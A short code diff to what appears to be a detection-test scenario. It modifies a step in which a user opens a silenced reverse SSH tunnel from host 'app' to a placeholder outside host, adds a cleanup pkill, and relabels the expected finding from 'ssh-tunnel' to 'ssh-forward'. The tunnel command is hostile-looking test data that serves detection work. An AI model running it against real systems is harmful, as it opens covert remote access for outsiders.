@@ -11,7 +11,8 @@ SCENARIO = Scenario(
     steps=(
         Step(
             "theo",
-            f"ssh theo@app 'ssh -fNR 2222:localhost:22 drop@{STRANGER} < /dev/null > /dev/null 2>&1'",
+            f"ssh theo@app 'ssh -fNR 2222:localhost:22 drop@{STRANGER} < /dev/null > /dev/null 2>&1; "
+            "sleep 2; pkill -x ssh'",
         ),
     ),
     twin_title="somebody reaches a host of the own fleet through an approved forward",
@@ -22,5 +23,5 @@ SCENARIO = Scenario(
             "pkill -u tina -f 2345:db",
         ),
     ),
-    truth=Truth("theo", ("app",), ("ssh-tunnel",)),
+    truth=Truth("theo", ("app",), ("ssh-forward",)),
 )
